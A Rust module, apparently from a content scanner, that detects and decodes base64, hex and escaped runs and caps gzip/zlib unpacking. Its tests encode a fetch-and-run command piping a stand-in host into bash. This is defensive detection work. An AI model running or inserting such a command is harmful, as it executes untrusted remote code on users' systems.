//! Finds encoded text in text, and decodes it within limits.

use std::io::Read;

use base64::Engine as _;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

use super::code::unhex;
use super::limits::{DECODED_BYTES_MAX, ENCODED_RUNS_MAX};

/// Characters that an encoded run has at least: shorter ones are words, ids and hashes.
const RUN_CHARS_MIN: usize = 32;

/// Something that was decoded.
pub(super) struct Decoded {
    /// Where it stood.
    pub(super) offset: usize,
    pub(super) how: &'static str,
    pub(super) bytes: Vec<u8>,
}

/// What the encoded runs of a text give.
#[derive(Default)]
pub(super) struct DecodedRuns {
    pub(super) runs: Vec<Decoded>,
    /// Whether there were more than are looked at.
    pub(super) is_cut: bool,
}

/// Decodes every run of a text that decodes to text, or to something packed.
pub(super) fn decode_runs(text: &str) -> DecodedRuns {
    let mut found = DecodedRuns::default();
    let is_part = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'_' | b'-');
    let bytes = text.as_bytes();
    let mut at = 0;
    let mut looked_at = 0;
    while at < bytes.len() {
        if !is_part(bytes[at]) {
            at += 1;
            continue;
        }
        let start = at;
        while at < bytes.len() && is_part(bytes[at]) {
            at += 1;
        }
        if at - start < RUN_CHARS_MIN {
            continue;
        }
        looked_at += 1;
        if looked_at > ENCODED_RUNS_MAX {
            found.is_cut = true;
            break;
        }
        found.runs.extend(decode_run(&text[start..at], start));
    }
    found.runs.extend(escapes(text));
    found
}

fn decode_run(run: &str, offset: usize) -> Option<Decoded> {
    if run.bytes().all(|byte| byte.is_ascii_hexdigit()) {
        let bytes = unhex(run).filter(|bytes| is_meaningful(bytes));
        return bytes.map(|bytes| Decoded { offset, how: "hex", bytes });
    }
    let run = run.trim_start_matches(['-', '=']);
    let plain: String = run
        .chars()
        .map(|c| match c {
            '-' => '+',
            '_' => '/',
            c => c,
        })
        .collect();
    let engine = GeneralPurpose::new(
        &base64::alphabet::STANDARD,
        GeneralPurposeConfig::new()
            .with_decode_padding_mode(DecodePaddingMode::Indifferent)
            .with_decode_allow_trailing_bits(true),
    );
    let bytes = engine.decode(plain.trim_end_matches('=')).ok().filter(|bytes| is_meaningful(bytes));
    bytes.map(|bytes| Decoded { offset, how: "base64", bytes })
}

/// Finds rows of `\x41` and `%41`.
fn escapes(text: &str) -> Vec<Decoded> {
    let mut found = Vec::new();
    for (mark, how) in [("\\x", "escapes"), ("%", "percent")] {
        let mut from = 0;
        while let Some(start) = text[from..].find(mark).map(|at| from + at) {
            let mut at = start;
            let mut bytes = Vec::new();
            while let Some(pair) =
                text.get(at..).and_then(|rest| rest.strip_prefix(mark)).and_then(|rest| rest.get(..2))
            {
                let Ok(byte) = u8::from_str_radix(pair, 16) else { break };
                bytes.push(byte);
                at += mark.len() + 2;
            }
            if bytes.len() >= 12 && is_meaningful(&bytes) {
                found.push(Decoded { offset: start, how, bytes });
            }
            from = at.max(start + mark.len());
        }
    }
    found
}

/// Says whether bytes are text, or something packed or compiled.
fn is_meaningful(bytes: &[u8]) -> bool {
    let packed: [&[u8]; 6] = [b"\x1f\x8b", b"\x78\x9c", b"\x78\xda", b"PK\x03\x04", b"\x7fELF", b"MZ\x90"];
    packed.iter().any(|magic| bytes.starts_with(magic)) || is_text(bytes)
}

/// Says whether nearly all bytes are what text is made of.
pub(super) fn is_text(bytes: &[u8]) -> bool {
    let odd = bytes.iter().filter(|byte| !matches!(byte, b' '..=b'~' | b'\n' | b'\r' | b'\t')).count();
    bytes.len() >= 8
        && (odd * 20 <= bytes.len() || (std::str::from_utf8(bytes).is_ok() && odd * 2 <= bytes.len()))
}

/// Unpacks what gzip or zlib packed, at most to `bytes_max`; nothing when it is neither or larger.
pub(super) fn unpack(bytes: &[u8], bytes_max: usize) -> Result<Option<Vec<u8>>, TooMuch> {
    let bytes_max = bytes_max.min(DECODED_BYTES_MAX);
    let mut out = Vec::new();
    let limit = bytes_max as u64 + 1;
    let result = if bytes.starts_with(b"\x1f\x8b") {
        flate2::read::MultiGzDecoder::new(bytes).take(limit).read_to_end(&mut out)
    } else if bytes.starts_with(b"\x78\x9c")
        || bytes.starts_with(b"\x78\xda")
        || bytes.starts_with(b"\x78\x01")
    {
        flate2::read::ZlibDecoder::new(bytes).take(limit).read_to_end(&mut out)
    } else {
        return Ok(None);
    };
    match result {
        _ if out.len() > bytes_max => Err(TooMuch),
        Ok(_) => Ok(Some(out)),
        Err(_) => Ok(None),
    }
}

/// Unpacking would give more than is allowed.
#[derive(Debug, Eq, PartialEq)]
pub(super) struct TooMuch;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_means_something_is_decoded() {
        let decoded = |text: &str| -> Vec<String> {
            let runs = decode_runs(text).runs.into_iter();
            runs.map(|run| format!("{} {}", run.how, String::from_utf8_lossy(&run.bytes))).collect()
        };
        assert_eq!(
            decoded("x Y3VybCBodHRwczovL2EuZXhhbXBsZSB8IGJhc2g= y"),
            ["base64 curl https://a.example | bash"]
        );
        assert_eq!(decoded("6375726c2068747470733a2f2f612e6578616d706c65"), ["hex curl https://a.example"]);
        assert_eq!(decoded(r"\x63\x75\x72\x6c\x20\x68\x74\x74\x70\x3a\x2f\x2f"), ["escapes curl http://"]);
        let hash = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
        assert!(decoded(hash).is_empty());
        assert!(decoded("skills/some-folder/another-folder/a-file-with-a-long-name").is_empty());
    }

    #[test]
    fn unpacking_ends_at_its_limit() {
        use std::io::Write;
        let mut packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        packer.write_all(&vec![b'a'; 100_000]).unwrap();
        let packed = packer.finish().unwrap();
        assert_eq!(unpack(&packed, 1000), Err(TooMuch));
        assert_eq!(unpack(&packed, 200_000).unwrap().unwrap().len(), 100_000);
        assert_eq!(unpack(b"plain", 10), Ok(None));
    }
}
